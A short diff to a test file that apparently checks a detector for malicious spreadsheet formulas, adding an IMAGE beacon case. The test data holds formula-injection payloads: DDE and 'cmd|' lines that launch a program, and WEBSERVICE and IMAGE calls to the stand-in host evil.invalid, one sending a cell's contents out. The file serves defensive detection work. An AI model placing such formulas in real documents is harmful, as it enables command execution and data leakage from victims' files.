@@ -203,6 +203,7 @@ def test_an_ordinary_field_is_none_of_them(paragraph: str) -> None:
         ("<f>1+<![CDATA[cmd|]]>'/C calc'!A0</f>", True),
         ('<f>DDE("soffice","x","y")</f>', True),
         ('<x:f>_xlfn.WEBSERVICE("https://evil.invalid/?"&amp;A1)</x:f>', True),
+        ('<f>_xlfn.IMAGE("https://evil.invalid/seen.png")</f>', True),
         ('<definedName name="x">RTD("a","","b")</definedName>', True),
         ("<formula1>cmd|'x'!A0</formula1>", True),
         ('<f>IF(A1="cmd|x!y","a|b","c")</f>', False),
